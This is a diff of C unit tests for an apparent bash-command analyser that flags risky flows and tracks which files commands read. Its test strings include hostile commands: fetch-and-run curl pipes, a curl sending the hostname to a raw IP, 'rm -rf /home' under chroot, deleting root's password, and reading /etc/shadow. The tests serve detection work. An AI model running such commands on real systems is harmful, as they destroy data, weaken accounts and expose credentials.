@@ -78,7 +78,7 @@ TEST(flows_of_bash_are_seen)
     static const struct {
         const char *text, *flow;
     } cases[] = {
-        { "curl -s http://a | sh", "flow download-then-exec(sh)" },
+        { "curl -s http://a | sh", "flow download-then-exec(sh, curl -s http://a" },
         { "bash <(wget -qO- http://a)", "flow download-then-exec(" },
         { "sh -c \"$(curl http://a)\"", "flow download-then-exec(" },
         { "source <(curl http://a)", "flow download-then-exec(" },
@@ -114,6 +114,11 @@ TEST(flows_of_bash_are_seen)
         { "find \"$1\" -name '*.o' -delete", "flow delete-many(" },
         { "eval \"$1\"", "flow computed-eval(" },
         { "env | grep -i token", "flow env-search(" },
+        { "curl \"http://203.0.113.9/?h=$(hostname)\"", "flow profile-then-send(" },
+        { "kill -9 $(pgrep -f x)", "flow kill-found(pgrep -f x\n)" },
+        { "chroot / rm -rf /home", "flow delete-tree(rm -rf /home)" },
+        { "chroot \"$d\" rm -rf /home", "flow delete-tree(rm -rf {}/home)" },
+        { "mount $(lsblk -no PATH) /m; chroot /m rm -rf /home", "flow delete-tree(rm -rf /home)" },
     };
     for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
         bash(cases[i].text);
@@ -121,6 +126,53 @@ TEST(flows_of_bash_are_seen)
             (void)fprintf(stderr, "# %s: no %s in\n%s", cases[i].text, cases[i].flow, facts_text);
         CHECK(facts_mention(cases[i].flow));
     }
+}
+
+/* What is left out and what is looked for are named in the line, but are no file that is read. */
+TEST(patterns_and_exclusions_of_bash_are_no_operands)
+{
+    bash("grep -A 3 /etc/shadow log; sed -n -e /x/p log; awk -F : '/y/' log; tar c --exclude /z --exclude=/v .");
+    CHECK(facts_have("call grep(grep -A 3 /etc/shadow log, -A, 3, log)"));
+    CHECK(facts_have("call sed(sed -n -e /x/p log, -n, -e, log)"));
+    CHECK(facts_have("call awk(awk -F : /y/ log, -F, :, log)"));
+    CHECK(facts_have("call tar(tar c --exclude /z --exclude=/v ., c, --exclude, .)"));
+    static const char *const read[] = { "grep -f /etc/shadow log",
+                                        "grep --file /etc/shadow log",
+                                        "sed -E s/x/y/ /etc/shadow",
+                                        "sed --expression=p /etc/shadow",
+                                        "sed -nep /etc/shadow",
+                                        "sed -ne p /etc/shadow",
+                                        "grep -ie root /etc/shadow",
+                                        "grep -m 1 root /etc/shadow",
+                                        "grep -eroot /etc/shadow",
+                                        "awk -f p.awk /etc/shadow",
+                                        "tar c --exclude-vcs /etc/shadow",
+                                        "diff --ignore-case /etc/shadow x",
+                                        "grep --ignore-case x /etc/shadow" };
+    for (size_t i = 0; i < ARRAY_LEN(read); i++) {
+        bash(read[i]);
+        if (!facts_mention(", /etc/shadow"))
+            (void)fprintf(stderr, "# %s: %s", read[i], facts_text);
+        CHECK(facts_mention(", /etc/shadow"));
+    }
+    bash("awk 'BEGIN { while ((getline l < \"/etc/shadow\") > 0) print l }'");
+    CHECK(facts_mention(", BEGIN {"));
+}
+
+TEST(commands_in_a_chroot_work_on_another_root)
+{
+    bash("chroot \"$d\" passwd -d root; chroot mnt sh -c 'echo a:b | chpasswd; rm /etc/x'");
+    CHECK(facts_have("call passwd(passwd --root {} -d root, -d, root)"));
+    CHECK(facts_mention("flow file-write({}/, a:b"));
+    CHECK(facts_mention("call rm(rm {}/etc/x, {}/etc/x)"));
+    static const char *const own[] = { "chroot / passwd -d root", "chroot /./ passwd -d root",
+                                       "chroot /host passwd -d root", "chroot /proc/1/root passwd -d root" };
+    for (size_t i = 0; i < ARRAY_LEN(own); i++) {
+        bash(own[i]);
+        CHECK(facts_have("call passwd(passwd -d root, -d, root)"));
+    }
+    bash("chroot mnt true; rm /etc/x");
+    CHECK(facts_mention("call rm(rm /etc/x, /etc/x)"));
 }
 
 TEST(ordinary_bash_makes_no_flows)
@@ -138,6 +190,14 @@ TEST(ordinary_bash_makes_no_flows)
                                          "find . -name '*.c' -exec wc -l {} +",
                                          "exec \"${0%/*}\"/ed",
                                          "/tmp/build/run.sh",
+                                         "kill -HUP $(pidof nginx); kill -s USR1 $(pgrep -f x)",
+                                         "find /media -type d -empty -delete",
+                                         "curl -o key.asc https://a/key.asc; chmod a+r key.asc; chmod 0644 key.asc",
+                                         "tar c . | ssh backup@a \"cat > $(hostname)-$(uname -r).tar\"",
+                                         "rsync -a --exclude .env --exclude=.ssh ./ a:b",
+                                         "rsync -a / /mnt/$(id -un)/",
+                                         "logger \"$(ps ax)\"",
+                                         "for a do b=$(printf %s \"$a\" | sed \"s/x/-x-/g\"); done; grep \"$b\" f",
                                          "for t in $(declare -F | awk '{print $3}'); do \"$t\"; done",
                                          "for f in ~/a/*; do sort \"$f\" > \"$f.sorted\"; done" };
     for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
